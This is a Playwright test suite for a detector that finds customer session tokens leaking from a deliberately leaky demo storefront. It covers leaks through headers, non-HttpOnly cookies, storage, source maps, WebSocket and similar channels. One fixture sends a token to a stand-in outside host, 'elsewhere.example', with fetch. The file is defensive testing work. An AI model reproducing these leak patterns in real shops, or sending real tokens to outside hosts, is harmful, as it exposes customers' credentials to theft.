import { createHash, randomBytes } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  expect,
  test as storefrontTest,
  type TokenSentinel,
} from 'next-storefront-session/playwright'
import { DEFAULT_CLIENT_ID, DEMO_CUSTOMER } from 'storefront-emulator'
import { holdsEachTime } from './holds-each-time.ts'
import { logInThere } from './log-in-at-shopify.ts'
import { type Shop, startShop } from './start-shop.ts'

holdsEachTime()

const PASSWORD = randomBytes(32).toString('base64')

/** The tests of a shop that leaks, as its owner would write them. */
const test = storefrontTest.extend<object, { leakyShop: Shop; socketUrl: string }>({
  leakyShop: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures out of the pattern.
    async ({}, use) => {
      const shop = await startShop({ storefront: 'leaky', env: { SESSION_PASSWORD: PASSWORD } })
      await use(shop)
      await shop.stop()
    },
    { scope: 'worker' },
  ],
  socketUrl: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures out of the pattern.
    async ({}, use) => {
      const server = await startSocketServer()
      const { port } = server.address() as AddressInfo
      await use(`ws://127.0.0.1:${port}/`)
      server.closeAllConnections()
      server.close()
    },
    { scope: 'worker' },
  ],
  baseURL: ({ leakyShop }, use) => use(leakyShop.url),
  storefrontSession: ({ leakyShop }, use) =>
    use({ emulatorUrl: leakyShop.emulator.origin, password: PASSWORD }),
})

test.beforeEach(({ logInAs }) => logInAs(DEMO_CUSTOMER))

test.describe('there is no false alarm', () => {
  test('for pages that show what the package gives them, links, forms and look-alikes', async ({
    page,
    tokenSentinel,
  }) => {
    await page.goto('/clean')
    await expect(page.getByRole('heading')).toHaveText('Ada Lovelace')
    await page.getByRole('textbox').fill('something of my own')
    await page.getByRole('link', { name: 'Next page' }).click()
    await expect(page).toHaveURL('/clean?page=2')
    await page.goto('/action')
    await page.goto('/source-map')
    expect(await tokenSentinel.takeSightings()).toEqual([])
  })

  test('for the sealed cookie where it belongs, in headers and in the browser', async ({
    page,
    context,
    session,
    tokenSentinel,
  }) => {
    await session.putIntoRenewalWindow()
    const response = await page.goto('/clean')
    expect(await response?.headerValue('set-cookie')).toMatch(/storefront_session=Fe26.*HttpOnly/i)
    expect((await context.cookies())[0]?.value).toMatch(/^Fe26/)
    expect(await tokenSentinel.takeSightings()).toEqual([])
  })

  test('for what a visitor has typed, where they typed it', async ({ page, tokenSentinel }) => {
    tokenSentinel.guard('Tidewater-Lantern-41', { label: 'password', mayBeTyped: true })
    await page.goto('/clean')
    await page.getByRole('textbox').fill('Tidewater-Lantern-41')
    expect(await tokenSentinel.takeSightings()).toEqual([])
    await page.getByRole('textbox').press('Enter')
    await expect(page).toHaveURL(/q=/)
    expect(placesOf(await tokenSentinel.takeSightings())).toContain('URL (plain)')
  })
})

/** What a server component does wrong, and the places where its token then is. */
for (const [door, seen] of [
  ['prop', ['DOM (plain)', 'response body (plain)']],
  ['inline-script', ['DOM (plain)', 'response body (plain)']],
  ['comment', ['DOM (plain)', 'response body (plain)']],
  ['base64', ['DOM (base64)', 'response body (base64)']],
  ['url-encoded', ['DOM (URL-encoded)', 'response body (URL-encoded)']],
] as const) {
  test(`a server component leaks by ${door}`, async ({ page, tokenSentinel }) => {
    await page.goto(`/server/${door}`)
    await expectSightings(tokenSentinel, seen)
  })
}

test('a server component leaks on a page to which a link leads: in the RSC payload alone', async ({
  page,
  tokenSentinel,
}) => {
  await page.goto('/clean')
  await page.getByRole('link', { name: 'Greeting' }).click()
  await expect(page.getByText('Hello Ada')).toBeVisible()
  await expectSightings(tokenSentinel, ['response body (plain)'])
})

test('a leak in an answer that no script reads to its end, as Next leaves what it prefetches', async ({
  page,
  socketUrl,
  tokenSentinel,
}) => {
  tokenSentinel.guard(AT_THE_END, { label: 'end of an answer' })
  await page.goto('/clean')
  await page.evaluate(async (url) => void (await fetch(url)), socketUrl.replace('ws:', 'http:'))
  await expectSightings(tokenSentinel, ['response body (plain)'])
})

test('a server action answers too much', async ({ page, tokenSentinel }) => {
  await page.goto('/action')
  await page.getByRole('button').click()
  await expect(page.getByText('Signed in')).toBeVisible()
  await expectSightings(tokenSentinel, ['response body (plain)'])
})

test('an error boundary shows a message', async ({ page, tokenSentinel }) => {
  await page.goto('/error-boundary')
  await expect(page.getByText('No customer for')).toBeVisible()
  await expectSightings(tokenSentinel, ['DOM (plain)', 'console (plain)'])
})

for (const time of ['first', 'second']) {
  // What is in a file that never changes is read once, and seen by each test.
  test(`a source map has what the script has not, in the ${time} test that loads it too`, async ({
    page,
    tokenSentinel,
  }) => {
    tokenSentinel.guard('shpat-7c1b-Marmalade-Lighthouse-0042', { label: 'private API token' })
    await page.goto('/source-map')
    expect(await tokenSentinel.takeSightings()).toEqual([
      {
        secret: 'private API token',
        form: 'plain',
        place: 'source map',
        url: expect.stringMatching(/\/_next\/static\/.*\.map$/),
      },
    ])
  })
}

/** What a route handler does wrong. */
for (const [door, seen] of [
  ['header', ['response header x-debug-session (plain)']],
  [
    'cookie',
    [
      'cookie without HttpOnly (plain)',
      'document.cookie (plain)',
      'response header set-cookie, without HttpOnly (plain)',
    ],
  ],
  [
    'sealed-cookie',
    [
      'cookie without HttpOnly (plain)',
      'document.cookie (plain)',
      'response header set-cookie, without HttpOnly (plain)',
    ],
  ],
  ['redirect', ['URL (plain)', 'response header location (plain)']],
  ['path', ['URL (plain)', 'response header location (plain)']],
] as const) {
  test(`a route handler leaks by ${door}`, async ({ page, tokenSentinel }) => {
    await page.goto(`/routes/${door}`, { waitUntil: 'networkidle' })
    await expectSightings(tokenSentinel, seen)
  })
}

test('a route handler has the store keep a token, which no browser sees', async ({
  page,
  tokenSentinel,
}) => {
  await page.goto('/routes/note')
  expect(await tokenSentinel.takeSightings()).toEqual([
    {
      secret: expect.stringMatching(/^customer access token #\d+$/),
      form: 'stored',
      place: 'the note of a cart',
      url: '',
    },
  ])
})

/** What a script does wrong with a token that came to it unseen. */
for (const [door, seen] of [
  ['body', ['request body (plain)']],
  ['cache-storage', ['cache storage (plain)']],
  ['console', ['console (plain)']],
  ['cookie-for-a-moment', ['document.cookie (plain)']],
  ['data-attribute', ['DOM (plain)']],
  ['dialog', ['dialog (plain)']],
  ['download', ['download (plain)']],
  ['elsewhere', ['request header x-session (plain)']],
  ['event-source', ['EventSource (plain)']],
  ['fragment', ['URL (plain)']],
  ['hidden-input', ['DOM (plain)', 'form field (plain)']],
  ['history', ['history (plain)']],
  ['indexed-db', ['IndexedDB (plain)']],
  ['local-storage', ['web storage (plain)']],
  ['message', ['message (plain)']],
  ['page-error', ['page error (plain)']],
  ['seal', ['cookie without HttpOnly (plain)', 'document.cookie (plain)']],
  ['service-worker', ['response body (plain)']],
  ['session-storage-for-a-moment', ['web storage (plain)']],
  ['shadow-root', ['DOM (plain)']],
  ['split', ['DOM (plain)']],
  ['style-sheet', ['style sheet (plain)']],
  ['typed-value', ['form field (plain)']],
  ['web-socket', ['WebSocket (plain)']],
  ['window-name', ['window.name (plain)']],
  ['worker', ['response body (plain)', 'worker (plain)']],
] as const) {
  test(`a script leaks by ${door}`, async ({ page, tokenSentinel, socketUrl }) => {
    await page.goto(`/client/${door}?socket=${encodeURIComponent(socketUrl)}`)
    await expect(page.getByText('Done')).toBeVisible()
    await expectSightings(tokenSentinel, seen)
  })
}

/** What a script does wrong with a token in a page that is there already, or for a moment only. */
for (const [name, leak, seen] of [
  [
    'a URL that it fetches',
    async (token: string) =>
      void (await fetch(`http://elsewhere.example/?${token}`).catch(() => 0)),
    ['URL (plain)'],
  ],
  [
    'a fragment for a moment',
    (token: string) => {
      location.hash = token
      history.replaceState(null, '', '/clean')
    },
    ['URL (plain)'],
  ],
  [
    'storage, without a call',
    (token: string) => {
      localStorage['t'] = token
    },
    ['web storage (plain)'],
  ],
] as const) {
  test(`a script leaks by ${name}`, async ({ page, emulator, tokenSentinel }) => {
    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
    await page.goto('/clean')
    await page.evaluate<void, string>(leak, accessToken)
    await expectSightings(tokenSentinel, seen)
  })
}

test.describe('of customers who log in on Shopify’s page', () => {
  test.use({
    storefrontSession: ({ leakyShop: { emulator, url } }, use) =>
      use({
        emulatorUrl: emulator.origin,
        password: PASSWORD,
        customerAccountClientId: DEFAULT_CLIENT_ID,
        siteOrigin: url,
      }),
  })

  for (const [path, seen] of [
    ['/server/prop', ['DOM (plain)', 'response body (plain)']],
    ['/routes/header', ['response header x-debug-session (plain)']],
    ['/routes/note', ['the note of a cart (stored)']],
    ['/client/local-storage', ['web storage (plain)']],
  ] as const) {
    test(`${path} leaks the refresh token`, async ({ page, tokenSentinel }) => {
      await page.goto(path)
      if (path.startsWith('/client')) await expect(page.getByText('Done')).toBeVisible()
      const sightings = await tokenSentinel.takeSightings()
      expect(placesOf(sightings)).toEqual(seen)
      for (const { secret } of sightings) expect(secret).toMatch(/^refresh token #\d+$/)
    })
  }

  test('an access token is found where a script has put it', async ({
    page,
    emulator,
    tokenSentinel,
  }) => {
    const { accessToken } = await emulator.mintAccountTokens(DEMO_CUSTOMER.email)
    await page.goto('/clean')
    await page.evaluate((token) => localStorage.setItem('t', token), accessToken)
    const [sighting] = await tokenSentinel.takeSightings()
    expect(sighting?.secret).toMatch(/^access token #\d+$/)
  })

  test('a route of the session’s own leaks the id token', async ({
    page,
    emulator,
    session,
    tokenSentinel,
  }) => {
    await session.clear()
    await page.goto('/api/session/login?returnTo=/clean')
    await logInThere(page, { email: DEMO_CUSTOMER.email, emulator })
    await expect(page).toHaveURL('/clean')
    expect(await tokenSentinel.takeSightings()).toEqual([])
    await page.goto('/api/session/leak')
    const sightings = await tokenSentinel.takeSightings()
    expect(placesOf(sightings)).toEqual(['DOM (plain)', 'response body (plain)'])
    for (const { secret } of sightings) expect(secret).toMatch(/^id token #\d+$/)
  })
})

test.describe('a test', () => {
  test.fail('fails by a leak that it does not take', async ({ page }) => {
    await page.goto('/routes/header')
  })

  test.fail('fails by a token that it has the store keep', async ({ page }) => {
    await page.goto('/routes/note')
  })

  test('is not failed by what the store kept before', async ({ page, emulator, tokenSentinel }) => {
    await page.goto('/routes/note')
    expect(await tokenSentinel.takeSightings()).toHaveLength(1)
    expect(await emulator.storedSecrets()).not.toEqual([])
    await page.goto('/clean')
    expect(await tokenSentinel.takeSightings()).toEqual([])
  })

  test('is told which secret and where, and never the secret', async ({
    page,
    emulator,
    tokenSentinel,
  }) => {
    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
    await page.goto(`/clean?own=${accessToken}&other=1`)
    await page.goto(`/routes/clean/${accessToken}`)
    const sightings = await tokenSentinel.takeSightings()
    expect(sightings.map(({ url }) => new URL(url).pathname)).toEqual(
      expect.arrayContaining(['/clean', '/[redacted]']),
    )
    expect(sightings[0]?.secret).toMatch(/^customer access token #\d+$/)
    const told = JSON.stringify(sightings)
    expect(told.includes(accessToken.slice(4, 16)), 'a part of the token is told').toBe(false)
    expect(told).not.toContain('own=')
  })

  test('is told of a leak once', async ({ page, tokenSentinel }) => {
    await page.goto('/client/local-storage')
    await expect(page.getByText('Done')).toBeVisible()
    expect(await tokenSentinel.takeSightings()).toHaveLength(1)
    expect(await tokenSentinel.takeSightings()).toEqual([])
  })

  test('is told of what a tab held that was closed, after an earlier look', async ({
    page,
    emulator,
    tokenSentinel,
  }) => {
    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
    await page.goto('/clean')
    expect(await tokenSentinel.takeSightings()).toEqual([])
    await page.evaluate((token) => {
      window.name = token
    }, accessToken)
    await page.close()
    await expectSightings(tokenSentinel, ['window.name (plain)'])
  })

  test('can have other browsers watched, and search a log', async ({
    browser,
    leakyShop,
    emulator,
    tokenSentinel,
  }) => {
    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
    const context = await browser.newContext({ baseURL: leakyShop.url })
    await tokenSentinel.watch(context)
    const page = await context.newPage()
    await page.goto('/clean')
    await page.evaluate((token) => localStorage.setItem('t', token), accessToken)
    tokenSentinel.search('log of the shop', `GET /account ${btoa(accessToken)}`)
    await context.close()
    await expectSightings(tokenSentinel, ['log of the shop (base64)', 'web storage (plain)'])
  })

  test('cannot guard what is everywhere', ({ tokenSentinel }) => {
    expect(() => tokenSentinel.guard('en', { label: 'language' })).toThrow('under 6 characters')
  })
})

test.describe('with the sentinel off', () => {
  test.use({ sentinel: { mode: 'off' } })

  test('nothing is watched', async ({ page, tokenSentinel }) => {
    await page.goto('/routes/header')
    expect(await tokenSentinel.takeSightings()).toEqual([])
  })
})

test.describe('with JavaScript off', () => {
  test.use({ javaScriptEnabled: false })

  test('the page is read as well', async ({ page, tokenSentinel }) => {
    await page.goto('/server/base64')
    await expectSightings(tokenSentinel, ['DOM (base64)', 'response body (base64)'])
  })
})

/** Exactly these places; a redirect's target tells its URL on to whatever the page asks for. */
async function expectSightings(sentinel: TokenSentinel, places: readonly string[]): Promise<void> {
  const sightings = await sentinel.takeSightings()
  const told = placesOf(sightings).filter(
    (place) => !AFTER_A_URL.has(place) || places.includes(place),
  )
  const isInUrl = places.some((place) => place.startsWith('URL'))
  expect(isInUrl ? told : placesOf(sightings)).toEqual(places)
}

const AFTER_A_URL = new Set([
  'DOM (plain)',
  'history (plain)',
  'request header referer (plain)',
  'referrer (plain)',
  'response body (plain)',
])

function placesOf(
  sightings: readonly { readonly place: string; readonly form: string }[],
): string[] {
  return [...new Set(sightings.map(({ place, form }) => `${place} (${form})`))].sort()
}

/** Stands at the end of a body that is longer than a browser reads in advance. */
const AT_THE_END = 'Marmalade-Lighthouse-0043'

/** Answers with a long body, takes every WebSocket and greets it with one message (RFC 6455 §4.2.2). */
function startSocketServer(): Promise<Server> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'access-control-allow-origin': '*' })
    response.end(' '.repeat(2_000_000) + AT_THE_END)
  })
  server.on('upgrade', (request, socket) => {
    const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`
    const accept = createHash('sha1').update(key).digest('base64')
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    )
    socket.write(Buffer.from([0x81, 2, 0x68, 0x69]))
    socket.on('error', () => undefined)
  })
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)))
}
